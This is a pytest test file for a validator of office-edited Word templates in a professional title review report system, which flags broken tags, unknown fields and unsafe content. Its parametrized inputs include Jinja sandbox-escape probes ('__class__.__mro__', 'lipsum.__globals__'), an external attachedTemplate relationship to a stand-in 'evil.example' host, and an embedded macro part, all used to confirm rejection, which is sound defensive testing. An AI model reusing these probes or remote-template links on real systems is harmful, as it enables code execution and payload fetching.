"""Templates that an office edited: what is told of a broken one, and what a good one prints."""

import io
import pickle
import zipfile
from collections.abc import Iterable, Mapping
from pathlib import Path
from typing import Any

import pytest
from openpyxl import load_workbook

from models.plan import Plan
from models.season import Season
from reports import change_notice, draw_record, letters, review_plan, sealed_letters
from reports.office_templates import export, fields_workbook, flaws_of, read
from reports.template_fields import Fields, fields_of, papers
from reports.view import open_view
from reports.word_paper import kept
from reports.write import Edition
from tests.reports.sample import make_season
from tests.reports.test_papers import words_of

DOCUMENT = "word/document.xml"


@pytest.fixture(scope="module")
def season() -> Season:
    return make_season(2, 12)


def edited(name: str, old: str, new: str, part: str = DOCUMENT) -> bytes:
    """A template of the package with another text in it."""
    buffer = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(kept(name))) as given, zipfile.ZipFile(buffer, "w") as made:
        for member in given.namelist():
            text = given.read(member).decode("utf-8")
            if member == part:
                assert old in text
                text = text.replace(old, new, 1)
            made.writestr(member, text)
    return buffer.getvalue()


def with_part(name: str, part: str, text: str) -> bytes:
    buffer = io.BytesIO(kept(name))
    with zipfile.ZipFile(buffer, "a") as made:
        made.writestr(part, text)
    return buffer.getvalue()


def codes(data: bytes, name: str = "review_plan") -> list[str]:
    return [flaw.code for flaw in flaws_of(data, name, "x.docx")]


@pytest.mark.parametrize("name", papers())
def test_the_templates_of_the_package_are_without_flaw(name: str) -> None:
    assert not codes(kept(name), name)


def test_every_paper_is_given_exactly_the_fields_that_are_listed(
    season: Season, plan: Plan, monkeypatch: pytest.MonkeyPatch
) -> None:
    given: dict[str, list[Mapping[str, Any]]] = {}

    def note(name: str, context: Mapping[str, Any], *_: object) -> bytes:
        given.setdefault(name, []).append(context)
        return b""

    for module in (change_notice, draw_record, letters, review_plan, sealed_letters):
        monkeypatch.setattr(module, "paper", note)
    changed = plan.model_copy(update={"meetings": plan.meetings[:1], "seats": plan.seats[1:]})
    for job in Edition(season, plan, since=changed)():
        if job.name.endswith(".docx"):
            job.make()
    for make in (letters.receipt, letters.applicant_pledge, letters.extension_request):
        make(open_view(season, plan))
    assert {*given} >= {*papers()} - {"draw_record"}
    for name, contexts in given.items():
        for context in contexts:
            same(name, papers()[name].fields, context)


def same(name: str, fields: Fields, context: Mapping[str, Any]) -> None:
    assert {*fields} == {*context}, name
    for key, field in fields.items():
        value = context[key]
        if field.rows:
            for row in value:
                same(f"{name}.{key}", field.rows, row)
        else:
            kind: Any = (list, tuple) if field.lines else bool if field.flag else str
            assert isinstance(value, kind), (name, key)


@pytest.mark.parametrize(
    ("new", "code"),
    [
        ("{{ oponing }}", "template.unknown-field"),
        ("{{ opening", "template.broken-tag"),
        ("{{ opening + }}", "template.broken-tag"),
        ("｛｛ opening ｝｝", "template.wide-braces"),
        ("{% if opening %}{{ opening }}", "template.unpaired"),
        ("{{ opening }}{% endif %}", "template.unpaired"),
        ("{{ opening.upper() }}", "template.not-plain"),
        ("{% include 'word/document.xml' %}", "template.not-plain"),
        ("{% autoescape false %}{{ opening }}{% endautoescape %}", "template.not-plain"),
        ("{{ opening|safe }}", "template.not-plain"),
        ("{{ opening|random }}", "template.not-plain"),
        ("{{ opening * 1000000000 }}", "template.not-plain"),
        ("{{ ''.__class__.__mro__ }}", "template.unknown-field"),
        ("{{ lipsum.__globals__ }}", "template.unknown-field"),
        ("{%p if sealed %}", "template.unpaired"),
        ("{% if sealed %}</w:t></w:r></w:p>{% endif %}", "template.no-document"),
    ],
)
def test_a_broken_tag_is_told(new: str, code: str) -> None:
    assert code in codes(edited("review_plan", "{{ opening }}", new))


def test_an_unknown_field_is_told_with_its_tag_and_the_nearest() -> None:
    data = edited("review_plan", "{{ row.specialties }}", "{{ row.speciality }}")
    (flaw,) = flaws_of(data, "review_plan", "评审实施方案.docx")
    assert flaw.file == "评审实施方案.docx"
    assert flaw.args == {
        "field": "speciality",
        "tag": "{{ row.speciality }}",
        "near": "specialties",
    }


def test_every_fault_of_every_file_is_told_at_once(tmp_path: Path) -> None:
    for name, data in export().items():
        (tmp_path / name).write_bytes(data)
    for name, paper, new in (
        ("review_plan", "评审实施方案", "{{ a1 }}{{ a2 }}"),
        ("unit_notice", "送审通知单", "{{ unit | nothing }}"),
    ):
        old = "{{ opening }}" if name == "review_plan" else "{{ unit }}"
        (tmp_path / f"{paper}.docx").write_bytes(edited(name, old, new))
    (tmp_path / "~$通知回执.docx").write_bytes(b"lock")
    (tmp_path / "通知回执.docx").write_bytes(b"broken")
    (tmp_path / "通知回执2.docx").write_bytes(kept("receipt"))
    found, flaws = read(tmp_path)
    assert sorted((flaw.file, flaw.code) for flaw in flaws) == [
        ("评审实施方案.docx", "template.unknown-field"),
        ("评审实施方案.docx", "template.unknown-field"),
        ("送审通知单.docx", "template.not-plain"),
        ("通知回执.docx", "template.unreadable"),
        ("通知回执2.docx", "template.no-paper"),
    ]
    assert len(found) == len(papers()) - 3


def test_a_template_without_what_the_law_wants_is_told_and_used() -> None:
    data = edited("review_plan", "{{ time }}", "另行通知")
    (flaw,) = flaws_of(data, "review_plan", "x.docx")
    assert (flaw.code, flaw.grave, flaw.args["field"]) == ("template.lacks", False, "time")


@pytest.mark.parametrize(
    ("part", "text", "code"),
    [
        ("word/vbaProject.bin", "", "template.macros"),
        ("word/comments.xml", "<w:comments/>", "template.traces"),
        (
            "word/_rels/settings.xml.rels",
            '<Relationships><Relationship Id="r1" Type="t/attachedTemplate" '
            'Target="http://evil.example/x.dotx" TargetMode="External"/></Relationships>',
            "template.fetches",
        ),
    ],
)
def test_what_a_paper_must_not_carry_is_told(part: str, text: str, code: str) -> None:
    assert code in codes(with_part("receipt", part, text), "receipt")


def test_an_edited_template_is_printed_in_every_process(season: Season, plan: Plan) -> None:
    own = {"review_plan": edited("review_plan", "评审实施方案", "评审工作方案")}
    edition = pickle.loads(pickle.dumps(Edition(season, plan, templates=own)))
    made = [job.make() for job in edition() if "评审实施方案" in job.name]
    assert made
    for files in made:
        for data in files.values():
            assert "年度职称评审工作方案" in words_of(data)


def test_an_internal_paper_names_nobody_whatever_its_template_asks_for(
    season: Season, plan: Plan
) -> None:
    new = "{% for p in members %}{{ p.name }}{% endfor %}{% for p in applicants %}{{ p.name }}"
    own = {"review_plan": edited("review_plan", "{{ opening }}", new + "{% endfor %}")}
    text = words_of(review_plan.review_plan(open_view(season, plan, own), "C01"))
    assert not named(text, season.experts)
    assert not named(text, season.applicants)
    sealed = words_of(review_plan.sealed_review_plan(season, plan, "C01", "n", own))
    assert named(sealed, season.experts)


def named(text: str, people: Iterable[Any]) -> list[str]:
    return [person.name for person in people if person.name in text]


def test_whoever_edited_a_template_is_not_named_in_what_is_printed(
    season: Season, plan: Plan
) -> None:
    core = edited("receipt", "</cp:coreProperties>", "王编辑</cp:coreProperties>", CORE)
    with zipfile.ZipFile(
        io.BytesIO(letters.receipt(open_view(season, plan, {"receipt": core})))
    ) as z:
        for member in z.namelist():
            assert "王编辑" not in z.read(member).decode("utf-8"), member


CORE = "docProps/core.xml"


def test_the_list_of_fields_tells_every_field_of_every_template() -> None:
    sheet: Any = load_workbook(io.BytesIO(fields_workbook("zh"))).active
    told = {(row[0], row[1]) for row in sheet.iter_rows(values_only=True)}
    for name, item in papers().items():
        assert {(item.paper, key) for key in fields_of(name)} <= told
    assert ("评审实施方案", "counts.kind") in told
